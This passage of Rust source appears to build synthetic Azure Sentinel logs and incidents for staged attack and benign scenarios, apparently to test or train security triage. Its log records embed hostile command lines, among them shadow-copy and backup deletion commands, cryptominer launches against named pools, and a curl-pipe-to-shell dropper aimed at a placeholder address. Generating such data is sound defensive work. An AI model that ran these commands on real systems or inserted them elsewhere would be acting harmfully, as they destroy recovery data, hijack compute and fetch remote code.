            b.metrics.push(json!({"TimeGenerated": b.at(m), "ResourceId": storage_rid.to_ascii_uppercase(), "_ResourceId": storage_rid.to_ascii_lowercase(),
                "Resource": n.storage.to_ascii_uppercase(), "ResourceProvider": "MICROSOFT.STORAGE", "ResourceGroup": "PROD", "SubscriptionId": SUBSCRIPTION,
                "MetricName": "Transactions", "Total": count, "Count": count, "Average": 1.0, "Maximum": 1.0, "Minimum": 1.0, "TimeGrain": "PT1M", "UnitName": "Count"}));
            if spec.has(Confounder::MonthEndBackup) && month_end && hour == 0 && b.clock(m + 15).0 == 1 {
                // The backup vault lists the keys just before its run, every month, from its usual IP.
                b.op(m, &backup_sp, "20.38.98.5", "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", &storage_rid, json!({}));
            }
            m += 15;
        }
    }

    // --- A database: its log IO (`log_write_percent`) as Azure SQL reports it, every 15 minutes. ---
    let db_rid = resource_id("Microsoft.Sql/servers", &format!("sql-{}/databases/{}db", n.storage, n.user.replace('.', "")));
    let ransom_db = ransom.is_some_and(|(t, _)| t == RansomTarget::Database);
    if ransom_db || spec.has(Confounder::IndexRebuild) {
        let mut m = -history_min;
        while m < end {
            let (hour, dow) = b.clock(m);
            let busy = !(dow == 0 || dow == 6) && (8..18).contains(&hour);
            let mut log = if busy { 18.0 } else { 6.0 } + b.rng.noise(2.0);
            if spec.has(Confounder::IndexRebuild) && (1..3).contains(&hour) {
                log = 88.0 + b.rng.noise(4.0);
            }
            if ransom_db && (-40..60).contains(&m) {
                log = 97.0 + b.rng.noise(1.5);
            }
            let log = log.clamp(0.0, 100.0);
            b.metrics.push(json!({"TimeGenerated": b.at(m), "ResourceId": db_rid.to_ascii_uppercase(), "_ResourceId": db_rid.to_ascii_lowercase(),
                "Resource": db_rid.rsplit('/').next().unwrap_or_default().to_ascii_uppercase(), "ResourceProvider": "MICROSOFT.SQL", "ResourceGroup": "PROD",
                "SubscriptionId": SUBSCRIPTION, "MetricName": "log_write_percent", "Total": log * 15.0, "Count": 15.0, "Average": log, "Maximum": (log * 1.05).min(100.0),
                "Minimum": log * 0.9, "TimeGrain": "PT1M", "UnitName": "Percent"}));
            m += 15;
        }
    }
    // The backup service principal rotates the host's snapshots every week: deleting the oldest is routine.
    let backup_sp = uuid_of("app:backup-vault");
    if spec.has(Confounder::BackupRotation) {
        let mut d = 7;
        while d * 24 * 60 < history_min - 60 {
            let snap = resource_id("Microsoft.Compute/snapshots", &format!("{}-snap-{d}", n.host));
            b.op(-(d * 24 * 60) + 200, &backup_sp, "20.38.98.5", "MICROSOFT.COMPUTE/SNAPSHOTS/DELETE", &snap, json!({}));
            d += 7;
        }
        let snap = resource_id("Microsoft.Compute/snapshots", &format!("{}-snap-0", n.host));
        b.op(-20, &backup_sp, "20.38.98.5", "MICROSOFT.COMPUTE/SNAPSHOTS/DELETE", &snap, json!({}));
    }
    // Logons to the host (their own draws, so the rest of the world draws what it drew before): a Windows host
    // writes 4625/4624 to SecurityEvent, a Linux one sshd lines to Syslog.
    let mut lr = Rng::new(spec.seed.wrapping_mul(977).wrapping_add(3));
    let linux = lr.chance(0.4);
    let logon = |b: &mut Builder, minute: i64, ip: &str, ok: bool, user: &str| {
        if linux {
            let msg = if ok {
                format!("Accepted password for {user} from {ip} port 50022 ssh2")
            } else {
                format!("Failed password for invalid user {user} from {ip} port 50022 ssh2")
            };
            b.security_events_linux.push(json!({"TimeGenerated": b.at(minute), "Computer": n.host, "Facility": "authpriv", "SeverityLevel": "info",
                "ProcessName": "sshd", "SyslogMessage": msg, "_ResourceId": host_rid, "SourceSystem": "Linux"}));
        } else {
            b.security_events.push(json!({"TimeGenerated": b.at(minute), "Computer": perf_name, "EventID": if ok { 4624 } else { 4625 }, "LogonType": 10,
                "IpAddress": ip, "TargetUserName": user, "Activity": if ok { "4624 - An account was successfully logged on." } else { "4625 - An account failed to log on." },
                "_ResourceId": host_rid, "SourceSystem": "OMS", "Channel": "Security", "EventSourceName": "Microsoft-Windows-Security-Auditing"}));
        }
    };
    if !spec.has(Confounder::Unmatched) {
        if spec.has(Confounder::PortScanners) {
            for k in 0..lr.int(2, 4) {
                let ip = format!("45.{}.{}.{}", lr.int(1, 250), lr.int(1, 250), lr.int(1, 250));
                for j in 0..lr.int(20, 300) {
                    logon(&mut b, -170 + k * 30 + j / 10, &ip, false, "administrator");
                }
            }
        }
        if spec.entry == Entry::HostBruteForce {
            for j in 0..lr.int(15, 120) {
                logon(&mut b, -140 + j / 4, &attacker, false, "administrator");
            }
            logon(&mut b, -100, &attacker, true, "administrator");
        }
        // Our user mistypes once, then logs on from home.
        if lr.chance(0.3) {
            logon(&mut b, -65, &home_ip(0), false, &n.user);
            logon(&mut b, -64, &home_ip(0), true, &n.user);
        }
    }
    // An admin looks at the shadow copies now and then: the tool's name is no evidence.
    if !spec.has(Confounder::Unmatched) && b.rng.chance(0.2) {
        b.security_events.push(
            json!({"TimeGenerated": b.at(-50), "Computer": perf_name, "EventID": 4688, "Activity": "4688 - A new process has been created.",
            "Account": format!("CONTOSO\\{}", n.user), "CommandLine": "vssadmin list shadows", "NewProcessName": "C:\\Windows\\System32\\vssadmin.exe",
            "_ResourceId": host_rid, "SourceSystem": "OMS", "Channel": "Security", "EventSourceName": "Microsoft-Windows-Security-Auditing"}),
        );
    }

    // --- Where the host connects (VMConnection, where VM Insights' Dependency agent runs) and the key vault's
    // data plane (AuditEvent to AzureDiagnostics): their own draws, so the rest of the world draws what it drew
    // before. ---
    let mut pr = Rng::new(spec.seed.wrapping_mul(1009).wrapping_add(11));
    let vm_insights = !spec.has(Confounder::MetricsOnly) && !spec.has(Confounder::Unmatched) && (cast.is_some() || pr.chance(0.6));
    if vm_insights {
        let conn = |b: &mut Builder, minute: i64, process: &str, ip: &str, port: i64, names: &str, sent: f64, links: i64| {
            b.vm_connections.push(
                json!({"TimeGenerated": b.at(minute), "Computer": perf_name, "Machine": format!("m-{}", uuid_of(&n.host).get(..8).unwrap_or("0")),
                "ProcessName": process, "Direction": "outbound", "Protocol": "tcp", "SourceIp": "10.0.1.4", "DestinationIp": ip, "RemoteIp": ip,
                "DestinationPort": port, "RemoteDnsQuestions": names, "BytesSent": sent as i64, "BytesReceived": (sent * 1.5) as i64,
                "LinksEstablished": links, "LinksLive": 1, "LinksTerminated": 0, "LinksFailed": 0, "_ResourceId": host_rid, "SourceSystem": "Insights"}),
            );
        };
        let updates_at = if pr.chance(0.3) { Some(pr.int(-120, 0)) } else { None };
        let mut m = -history_min;
        while m < end {
            conn(&mut b, m, "WaAppAgent", "168.63.129.16", 32526, "", 4_000.0 + pr.noise(300.0).abs(), 0);
            conn(&mut b, m, "dotnet", "10.0.2.4", 5432, "[\"db.contoso.local\"]", 90_000.0 + pr.noise(9_000.0).abs(), 2);
            if spec.has(Confounder::KnownPoolPort) {
                conn(&mut b, m, "otelcol", "10.0.3.8", 3333, "[\"collector.contoso.local\"]", 30_000.0 + pr.noise(3_000.0).abs(), 1);
            }
            m += 60;
        }
        // Package updates from an address the host never used: new, but nothing of a pool.
        if let Some(at) = updates_at {
            conn(&mut b, at, "apt", &format!("13.107.{}.{}", pr.int(1, 250), pr.int(1, 250)), 443, "[\"packages.microsoft.com\"]", 40_000.0, 3);
        }
        if spec.story == Story::Cryptojacking {
            // The miner reaches its pool: by a pool's name (the dropper resolved it), or straight to an address
            // on the pool's port, or through TLS on 443 with no name, which the network alone cannot tell.
            let pool_ip = format!("45.{}.{}.{}", pr.int(1, 250), pr.int(1, 250), pr.int(1, 250));
            let port = *pr.pick(&[3333, 5555, 14444, 443, 443]);
            let names = if pr.chance(0.6) {
                format!("[\"{}\"]", pr.pick(&["pool.supportxmr.com", "xmr.2miners.com", "gulf.moneroocean.stream"]))
            } else {
                String::new()
            };
            let process = *pr.pick(&["xmrig", "kswapd0", "sysupdate", "kdevtmpfsi"]);
            let mut m = -crypto_lead.min(60 * 4);
            while m < end {
                conn(&mut b, m, process, &pool_ip, port, &names, 8_000.0 + pr.noise(1_000.0).abs(), i64::from(m == -crypto_lead.min(60 * 4)));
                m += 10;
            }
        }
    }
    // The agent's Heartbeat, every hour: the machine's name, ARM id and address.
    if !spec.has(Confounder::MetricsOnly) && !spec.has(Confounder::Unmatched) {
        let mut m = -history_min;
        while m < end {
            b.heartbeats.push(
                json!({"TimeGenerated": b.at(m), "Computer": perf_name, "_ResourceId": host_rid, "ResourceId": host_rid, "ComputerIP": "20.40.60.80",
                "ComputerPrivateIPs": ["10.0.1.4"], "Category": "Azure Monitor Agent", "OSType": "Linux", "ResourceProvider": "Microsoft.Compute",
                "ResourceType": "virtualMachines", "Resource": n.host, "ResourceGroup": "prod", "SubscriptionId": SUBSCRIPTION, "SourceSystem": "OpsManager"}),
            );
            m += 60;
        }
    }
    // The storage account's resource log (StorageBlobLogs), one row per request: its app reading a few blobs
    // every hour from its subnet, the month-end backup reading everything from its usual address, and the
    // intruder's bulk download. (The backup's other nights are left out: its reads are the same address.)
    if storage_story {
        let blob = |b: &mut Builder, minute: i64, ip: &str, op: &str, auth: &str, bytes: i64, k: i64| {
            b.blob_logs.push(json!({"TimeGenerated": b.at(minute), "AccountName": n.storage, "_ResourceId": storage_rid.to_ascii_lowercase(),
                "OperationName": op, "OperationVersion": "2023-11-03", "Category": "StorageRead", "StatusCode": "200", "StatusText": "Success",
                "CallerIpAddress": format!("{ip}:{}", 40_000 + k % 20_000), "AuthenticationType": auth, "ResponseBodySize": bytes, "ServiceType": "blob",
                "Uri": format!("https://{}.blob.core.windows.net/data/part-{k:05}.parquet", n.storage), "Protocol": "HTTPS", "SourceSystem": "Azure"}));
        };
        let mut m = -history_min;
        while m < end {
            for k in 0..2 {
                blob(&mut b, m + k * 20, "10.0.1.4", "GetBlob", "OAuth", 150_000 + pr.int(0, 50_000), k);
            }
            if spec.has(Confounder::MonthEndBackup) && b.month_end(m) && (1..3).contains(&b.clock(m).0) {
                for k in 0..40 {
                    blob(&mut b, m + k / 4, "20.38.98.5", "GetBlob", "OAuth", 25_000_000, k);
                }
            }
            m += 60;
        }
        if exfil_via_storage {
            blob(&mut b, -44, &actor_ip, "ListBlobs", "AccountKey", 80_000, 0);
            for k in 0..pr.int(150, 400) {
                blob(&mut b, -43 + k / 6, &actor_ip, "GetBlob", "AccountKey", pr.int(2_000_000, 8_000_000), k);
            }
        }
    }
    let vault_rid = resource_id("Microsoft.KeyVault/vaults", "kv-prod");
    let vault_story = exfil_via_vault || spec.has(Confounder::PipelineSecrets);
    if vault_story || pr.chance(0.25) {
        let read = |b: &mut Builder, minute: i64, who: &str, upn: Option<&str>, ip: &str, op: &str, item: &str| {
            let mut row = json!({"TimeGenerated": b.at(minute), "_ResourceId": vault_rid.to_ascii_lowercase(), "Resource": "KV-PROD", "ResourceGroup": "PROD",
                "SubscriptionId": SUBSCRIPTION, "ResourceProvider": "MICROSOFT.KEYVAULT", "ResourceType": "VAULTS", "Category": "AuditEvent",
                "OperationName": op, "OperationVersion": "7.4", "ResultType": "Success", "ResultSignature": "OK", "httpStatusCode_d": 200.0,
                "CallerIPAddress": ip, "DurationMs": 12, "clientInfo_s": "azsdk-net-Security.KeyVault.Secrets/4.6.0",
                "id_s": if item.is_empty() { "https://kv-prod.vault.azure.net/secrets".to_string() } else { format!("https://kv-prod.vault.azure.net/secrets/{item}") },
                "requestUri_s": format!("https://kv-prod.vault.azure.net/secrets/{item}?api-version=7.4"), "SourceSystem": "Azure"});
            if let Some(u) = upn {
                row["identity_claim_http_schemas_xmlsoap_org_ws_2005_05_identity_claims_upn_s"] = json!(u);
                row["identity_claim_http_schemas_microsoft_com_identity_claims_objectidentifier_g"] = json!(uuid_of(u));
            } else {
                row["identity_claim_appid_g"] = json!(who);
            }
            b.diagnostics.push(row);
        };
        // The web app's managed identity reads its three secrets every two hours, from its subnet.
        let web_mi = uuid_of("mi:web");
        let mut m = -history_min + 45;
        while m < end {
            for item in ["db-password", "api-key", "storage-connection"] {
                read(&mut b, m, &web_mi, None, "10.0.1.4", "SecretGet", item);
            }
            m += 120;
        }
        // The release pipeline reads its five secrets at each run (the schedule of its sign-ins), each time from
        // a fresh address of its hosted agents' networks.
        let mut m = -history_min + 30;
        while m < end {
            let ip = format!("13.107.{}.{}", pr.int(1, 250), pr.int(1, 250));
            for item in ["deploy-key", "acr-password", "sql-admin", "smtp", "signing-cert"] {
                read(&mut b, m + 2, &n.sp_app_id, None, &ip, "SecretGet", item);
            }
            m += 360;
        }
        // Our user looks up a secret now and then, from home.
        let mut d = 5;
        while d * 24 * 60 < history_min - 60 {
            read(&mut b, -(d * 24 * 60) + 600, "", Some(&upn), &home_ip(0), "SecretGet", "break-glass-note");
            d += 6;
        }
        if exfil_via_vault {
            // The intruder lists the vault, then reads what it holds.
            let secrets = pr.int(25, 90);
            read(&mut b, -42, &actor, (!sp_actor).then_some(upn.as_str()), &actor_ip, "SecretList", "");
            for k in 0..secrets {
                read(&mut b, -40 + k / 4, &actor, (!sp_actor).then_some(upn.as_str()), &actor_ip, "SecretGet", &format!("secret-{k:03}"));
            }
        }
    }

    // --- The story's control-plane work and vendor evidence. ---
    let gpu = json!({"requestbody": json!({"properties": {"hardwareProfile": {"vmSize": "Standard_NC24ads_A100_v4"}}}).to_string()});
    match spec.story {
        Story::Cryptojacking => {
            // An intruder creates GPU machines, or runs the miner on the host it found (no control-plane trace):
            // either way, with or without a visible entry.
            if trig.code_on_host {
                // The miner is dropped through the control plane: Run Command or the Custom Script extension.
                let op = if spec.seed.is_multiple_of(2) {
                    "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"
                } else {
                    "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE"
                };
                b.op(
                    -crypto_lead - 5,
                    &actor,
                    &actor_ip,
                    op,
                    &format!("{host_rid}{}", if op.contains("EXTENSIONS") { "/extensions/CustomScript" } else { "" }),
                    json!({}),
                );
            }
            if b.rng.chance(0.5) {
                let vm = resource_id("Microsoft.Compute/virtualMachines", &format!("gpu-{}", b.rng.int(10, 99)));
                b.op(-crypto_lead - 20, &actor, &actor_ip, "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE", &vm, gpu.clone());
                if sp_actor {
                    let rg = format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-tmp-{}", b.rng.int(100, 999));
                    b.op(-crypto_lead - 25, &actor, &actor_ip, "MICROSOFT.RESOURCES/SUBSCRIPTIONS/RESOURCEGROUPS/WRITE", &rg, json!({}));
                }
            }
        }
        Story::Exfiltration => {
            if !exfil_via_vault {
                b.op(-70, &actor, &actor_ip, "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", &storage_rid, json!({}));
            }
            if !sp_actor && (cast.is_some() || b.rng.chance(0.5)) {
                for k in 0..3 {
                    b.noxys.push(json!({"TimeGenerated": b.at(-40 + k * 5), "EventTime": b.at(-40 + k * 5), "EventType": "interaction.policy_violated", "UserId": upn,
                        "PlatformId": "deepseek", "RiskScore": 0.97, "Classifications": [{"type": "IBAN", "score": 0.99}], "PolicyDecisions": [{"action": "block"}],
                        "EventId": format!("evt_{}_{k}", spec.seed)}));
                }
            }
        }
        Story::ConfigDrift => {
            let which = b.rng.int(0, 2);
            if which != 1 {
                b.op(
                    -30,
                    &actor,
                    &actor_ip,
                    "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
                    &resource_id("Microsoft.Network/networkSecurityGroups", "web-nsg/securityRules/allow-any-3389"),
                    // AzureActivity records the request: RDP from anywhere.
                    json!({"requestbody": json!({"properties": {"access": "Allow", "direction": "Inbound", "priority": 100, "protocol": "Tcp",
                        "sourceAddressPrefix": "*", "destinationPortRange": "3389", "destinationAddressPrefix": "*"}}).to_string()}),
                );
            }
            if which != 0 {
                b.op(
                    -25,
                    &actor,
                    &actor_ip,
                    "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                    &resource_id("Microsoft.Authorization/roleAssignments", "9a2c"),
                    json!({}),
                );
            }
            if sp_actor {
                let rg = format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-x{}", b.rng.int(100, 999));
                b.op(-28, &actor, &actor_ip, "MICROSOFT.RESOURCES/SUBSCRIPTIONS/RESOURCEGROUPS/WRITE", &rg, json!({}));
            }
        }
        Story::Ransomware => {
            let (target, _) = ransom.unwrap_or((RansomTarget::Host, false));
            match target {
                RansomTarget::Host => {
                    // The recovery the host has: shadow copies, the boot recovery, the backup catalog.
                    if trig.shadow_copy_events {
                        let line = *b.rng.pick(&[
                            "vssadmin.exe Delete Shadows /All /Quiet",
                            "wmic.exe shadowcopy delete /nointeractive",
                            "bcdedit /set {default} recoveryenabled No",
                            "wbadmin delete catalog -quiet",
                            "powershell.exe -nop -c \"Get-WmiObject Win32_ShadowCopy | Remove-WmiObject\"",
                        ]);
                        b.security_events.push(
                            json!({"TimeGenerated": b.at(-35), "Computer": perf_name, "EventID": 4688, "Activity": "4688 - A new process has been created.",
                            "Account": format!("CONTOSO\\{}", n.user), "CommandLine": line, "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                            "_ResourceId": host_rid, "SourceSystem": "OMS", "Channel": "Security", "EventSourceName": "Microsoft-Windows-Security-Auditing"}),
                        );
                    }
                    if b.rng.chance(0.5) {
                        let snap = resource_id("Microsoft.Compute/snapshots", &format!("{}-snap-0", n.host));
                        b.op(-45, &actor, &actor_ip, "MICROSOFT.COMPUTE/SNAPSHOTS/DELETE", &snap, json!({}));
                    }
                }
                RansomTarget::Database => {
                    if b.rng.chance(0.5) {
                        let item = format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/prod/providers/Microsoft.RecoveryServices/vaults/rsv-prod/backupFabrics/Azure/protectionContainers/sql/protectedItems/{}", db_rid.rsplit('/').next().unwrap_or_default());
                        b.op(
                            -50,
                            &actor,
                            &actor_ip,
                            "MICROSOFT.RECOVERYSERVICES/VAULTS/BACKUPFABRICS/PROTECTIONCONTAINERS/PROTECTEDITEMS/DELETE",
                            &item,
                            json!({}),
                        );
                    }
                }
                RansomTarget::Storage => {
                    if b.rng.chance(0.6) {
                        let body = json!({"requestbody": json!({"properties": {"deleteRetentionPolicy": {"enabled": false}, "containerDeleteRetentionPolicy": {"enabled": false}}}).to_string()});
                        b.op(
                            -50,
                            &actor,
                            &actor_ip,
                            "MICROSOFT.STORAGE/STORAGEACCOUNTS/BLOBSERVICES/WRITE",
                            &format!("{storage_rid}/blobServices/default"),
                            body,
                        );
                    }
                }
            }
        }
        Story::CredentialCompromise => {
            if b.rng.chance(0.4) {
                b.trapeye.push(json!({"TimeGenerated": b.at(-20), "EventTime": b.at(-20), "source_ip": attacker, "reverse_lookup": "unknown", "threat_uuid": uuid_of(&format!("trap:{}", spec.seed))}));
            }
        }
        Story::BenignLoad => {
            // The host's admin looks into the load with Run Command, from where they always work.
            if trig.admin_run_command {
                b.op(10, &upn, &home_ip(0), "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", &host_rid, json!({}));
            }
            let scheduled = [Confounder::NightlyBatch, Confounder::WeeklyBatch, Confounder::MonthEndBackup, Confounder::IndexRebuild];
            if !scheduled.iter().any(|c| spec.has(*c)) {
                // The tier scales for the load: autoscale acting on the host's own resource (the reason an analyst
                // reads on the host), or the pipeline scaling the web tier's scale set, which no entity names.
                if cast.is_some() || b.rng.chance(0.5) {
                    b.op(-35, "Microsoft.Insights/autoscaleSettings", "", "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", &host_rid, json!({}));
                } else {
                    b.op(-35, &n.sp_app_id, PIPELINE_IP, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", &vmss, json!({}));
                }
            }
        }
        Story::Quiet => {}
    }

    // --- The alert and the incident. ---
    let mut entities: Vec<Value> = Vec::new();
    let (alert_name, severity) = (trig.name, trig.severity);
    if !spec.has(Confounder::NoEntities) {
        if spec.has(Confounder::Unmatched) {
            entities.push(json!({"$id": "2", "Type": "account", "Name": format!("svc-{}", n.user.replace('.', "")), "UPNSuffix": "contoso.com"}));
            entities.push(json!({"$id": "3", "Type": "host", "HostName": format!("{}-old", n.host)}));
        } else {
            if sp_actor {
                entities.push(json!({"$id": "5", "Type": "account", "Name": n.sp_name, "AadUserId": uuid_of(&format!("sp:{}", n.sp_name))}));
            }
            let name = if spec.has(Confounder::UpnCase) { capitalise(&n.user) } else { n.user.clone() };
            let suffix = if spec.has(Confounder::UpnCase) { capitalise(&n.suffix) } else { n.suffix.clone() };
            entities.push(json!({"$id": "2", "Type": "account", "Name": name, "UPNSuffix": suffix}));
            entities.push(json!({"$id": "3", "Type": "host", "HostName": n.host}));
            if attacker_in {
                entities.push(json!({"$id": "4", "Type": "ip", "Address": attacker}));
            }
            if storage_story || (spec.story == Story::Exfiltration && !exfil_via_vault) {
                entities.push(json!({"$id": "6", "Type": "azure-resource", "ResourceId": storage_rid}));
            }
            if vault_story {
                entities.push(json!({"$id": "11", "Type": "azure-resource", "ResourceId": vault_rid}));
            }
            if ransom_db || spec.has(Confounder::IndexRebuild) {
                entities.push(json!({"$id": "8", "Type": "azure-resource", "ResourceId": db_rid}));
            }
            if spec.has(Confounder::BackupRotation) {
                // The backup rule maps the deleting caller and the snapshot it deleted.
                entities.push(json!({"$id": "9", "Type": "account", "Name": "backup-vault", "AadUserId": backup_sp}));
                entities.push(
                    json!({"$id": "10", "Type": "azure-resource", "ResourceId": resource_id("Microsoft.Compute/snapshots", &format!("{}-snap-0", n.host))}),
                );
            }
            entities.extend(trig.artefacts.iter().cloned());
        }
    }
    let alert_id = uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_URL, format!("sentinel-bridge:case-alert:{incident_name}").as_bytes()).to_string();
    let title = cast.map(|c| c.title.clone()).filter(|t| !t.is_empty()).unwrap_or_else(|| alert_name.to_string());
    let mut alert_ids = Vec::new();
    if !spec.has(Confounder::NoEntities) {
        b.alerts.push(
            json!({"TimeGenerated": b.at(5), "SystemAlertId": alert_id, "DisplayName": alert_name, "AlertName": alert_name, "AlertSeverity": severity,
            "ProductName": trig.product, "ProviderName": trig.provider, "AlertType": trig.alert_type, "Status": "New", "StartTime": b.at(0), "EndTime": b.at(30),
            "Tactics": trig.tactics, "Techniques": trig.techniques, "Entities": Value::Array(entities.clone()).to_string(), "CompromisedEntity": n.host}),
        );
        alert_ids.push(alert_id);
        if trig.entry_alert {
            let e = Trigger::unfamiliar_sign_in("Medium");
            let id = uuid_of(&format!("entry-alert:{incident_name}"));
            let account: Vec<Value> = entities.iter().filter(|e| e["Type"] == "account" || e["Type"] == "ip").cloned().collect();
            b.alerts.push(json!({"TimeGenerated": b.at(-10), "SystemAlertId": id, "DisplayName": e.name, "AlertName": e.name, "AlertSeverity": e.severity,
                "ProductName": e.product, "ProviderName": e.provider, "AlertType": e.alert_type, "Status": "New", "StartTime": b.at(-40), "EndTime": b.at(-15),
                "Tactics": e.tactics, "Techniques": e.techniques, "Entities": Value::Array(account).to_string()}));
            alert_ids.push(id);
        }
    }
    if spec.has(Confounder::Neighbour) {
        // The colleague's own alert, in the same window, naming the names that contain ours.
        let nb_entities = json!([{"$id": "2", "Type": "account", "Name": n.neighbour.split('@').next().unwrap_or(""), "UPNSuffix": "contoso.com"}, {"$id": "3", "Type": "host", "HostName": n.neighbour_host}]);
        b.alerts.push(json!({"TimeGenerated": b.at(-20), "SystemAlertId": uuid_of(&format!("nb-alert:{incident_name}")), "DisplayName": "Sign-in from an unfamiliar location",
            "AlertName": "Sign-in from an unfamiliar location", "AlertSeverity": "Medium", "ProductName": "Microsoft Entra ID Protection", "ProviderName": "IPC",
            "Status": "New", "StartTime": b.at(-90), "EndTime": b.at(-20), "Tactics": "InitialAccess", "Entities": nb_entities.to_string(), "CompromisedEntity": n.neighbour_host}));
    }
    let incident = json!({"TimeGenerated": b.at(35), "IncidentName": incident_name, "Title": title, "Severity": severity, "Status": "New",
        "IncidentNumber": incident_number, "CreatedTime": b.at(35), "LastModifiedTime": b.at(35), "FirstActivityTime": b.at(0), "LastActivityTime": b.at(30),
        "AlertIds": alert_ids, "ProviderName": "Azure Sentinel", "Description": "Staged by sentinel-bridge"});
    let mut streams = vec![
        ("Microsoft-Perf".to_string(), b.perf),
        ("Microsoft-AzureMetrics".to_string(), b.metrics),
        ("Microsoft-SigninLogs".to_string(), b.signins),
        ("Microsoft-AADNonInteractiveUserSignInLogs".to_string(), b.noninteractive),
        ("Microsoft-AADServicePrincipalSignInLogs".to_string(), b.sp_signins),
        ("Microsoft-AzureActivity".to_string(), b.activity),
        ("Microsoft-SecurityAlert".to_string(), b.alerts),
        ("Microsoft-SecurityIncident".to_string(), vec![incident]),
        ("Custom-NoxysEvents_CL".to_string(), b.noxys),
        ("Custom-TrapEye_Threats_CL".to_string(), b.trapeye),
        ("Microsoft-SecurityEvent".to_string(), b.security_events),
        ("Microsoft-Syslog".to_string(), b.security_events_linux),
        ("Microsoft-VMConnection".to_string(), b.vm_connections),
        ("Microsoft-AzureDiagnostics".to_string(), b.diagnostics),
        ("Microsoft-Heartbeat".to_string(), b.heartbeats),
        ("Microsoft-StorageBlobLogs".to_string(), b.blob_logs),
    ];
    streams.retain(|(_, rows)| !rows.is_empty());
    Staged { streams, incident_name: incident_name.to_string() }
}

fn capitalise(s: &str) -> String {
    s.split('.')
        .map(|p| {
            let mut c = p.chars();
            c.next().map(|f| f.to_uppercase().collect::<String>() + c.as_str()).unwrap_or_default()
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// What ransomware encrypts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RansomTarget {
    Host,
    Database,
    Storage,
}

/// The automation account that starts the nightly batch.
const BATCH_AUTOMATION: &str = "aa-batch-ops";

/// The alert that raised the incident, as the source that fired it writes it: a detection product's
/// classification (with its artefacts), or the customer's own scheduled rule (its MITRE tags the rule's, not
/// this firing's). Benign stories get vendors' false positives too (an "unusual amount of data" on a month-end
/// backup, an unfamiliar sign-in that is a traveller), so a fit learns what each source is worth.
struct Trigger {
    name: &'static str,
    severity: &'static str,
    product: &'static str,
    provider: &'static str,
    alert_type: String,
    tactics: &'static str,
    techniques: &'static str,
    /// Entities beyond the account, host, IP and resource: a process, a file.
    artefacts: Vec<Value>,
    /// The miner is throttled: its CPU adds 20 points to the host's own load instead of pinning it. Behavioural
    /// detections catch these more often than CPU rules do.
    throttled_miner: bool,
    /// The miner was dropped on the host through the control plane (Run Command, an extension).
    code_on_host: bool,
    /// The host's admin ran a Run Command during a benign load, looking into it.
    admin_run_command: bool,
    /// The incident has a second alert, from the entry point's detection (Identity Protection's unfamiliar
    /// sign-in).
    entry_alert: bool,
    /// The host's agent recorded the command that deleted its shadow copies (SecurityEvent 4688).
    shadow_copy_events: bool,
}

impl Trigger {
    /// An alert as its source writes it, with none of the story's extras.
    fn new(
        (product, provider): (&'static str, &'static str),
        name: &'static str,
        severity: &'static str,
        alert_type: &str,
        tactics: &'static str,
        techniques: &'static str,
    ) -> Trigger {
        Trigger {
            name,
            severity,
            product,
            provider,
            alert_type: alert_type.to_string(),
            tactics,
            techniques,
            artefacts: Vec::new(),
            throttled_miner: false,
            code_on_host: false,
            admin_run_command: false,
            entry_alert: false,
            shadow_copy_events: false,
        }
    }

    /// The customer's own scheduled rule: no alert type of a product's, its MITRE tags the rule's.
    fn rule(name: &'static str, severity: &'static str, tactics: &'static str, techniques: &'static str) -> Trigger {
        Trigger::new(RULE, name, severity, "", tactics, techniques)
    }

    fn defender_mining() -> Trigger {
        Trigger::new(DEFENDER, "Digital currency mining related behavior detected", "High", "VM_DigitalCurrencyMining", "Impact", "T1496")
    }

    fn defender_run_command() -> Trigger {
        Trigger::new(DEFENDER, "Suspicious Run Command usage was detected", "Medium", "ARM_RunCommandSuspiciousScript", "Execution", "T1651")
    }

    fn storage_data_anomaly() -> Trigger {
        Trigger::new(
            DEFENDER,
            "Unusual amount of data extracted from a storage account",
            "Medium",
            "Storage.Blob_DataExfiltration.AmountOfDataAnomaly",
            "Exfiltration",
            "T1537",
        )
    }

    fn defender_ransomware() -> Trigger {
        Trigger::new(DEFENDER, "Ransomware indicators detected", "High", "VM_RansomwareIndicators", "Impact", "T1486,T1490")
    }

    fn unfamiliar_sign_in(severity: &'static str) -> Trigger {
        Trigger::new(ID_PROTECTION, "Unfamiliar sign-in properties", severity, "UnfamiliarLocation", "InitialAccess", "T1078")
    }
}

const RULE: (&str, &str) = ("Azure Sentinel", "ASI Scheduled Alerts");
const DEFENDER: (&str, &str) = ("Azure Security Center", "Azure Security Center");
const ID_PROTECTION: (&str, &str) = ("Azure Active Directory Identity Protection", "IPC");

fn miner_command(rng: &mut Rng) -> String {
    let pool = match rng.int(0, 3) {
        0 => "pool.supportxmr.com".to_string(),
        1 => "xmr.2miners.com".to_string(),
        2 => "gulf.moneroocean.stream".to_string(),
        _ => format!("n{}.example", rng.int(100, 999)),
    };
    match rng.int(0, 4) {
        0 => format!("/tmp/.cache/kswapd0 -o {pool}:443 --tls -k --max-cpu-usage 95"),
        1 => format!("./xmrig -o stratum+tcp://{pool}:3333 -u 4{} -p x", rng.int(100_000, 999_999)),
        2 => format!("/var/tmp/.x/sysupdate --donate-level 1 -o {pool}:5555"),
        3 => "/dev/shm/kdevtmpfsi".to_string(),
        // A dropper whose command line names nothing a vocabulary knows.
        _ => format!("bash -c 'curl -fsSL http://203.0.113.{}/ldr.sh | sh'", rng.int(2, 250)),
    }
}

fn trigger(spec: &CaseSpec, cast: Option<&Cast>) -> Trigger {
    // Its own stream, so the rest of the world draws what it drew before.
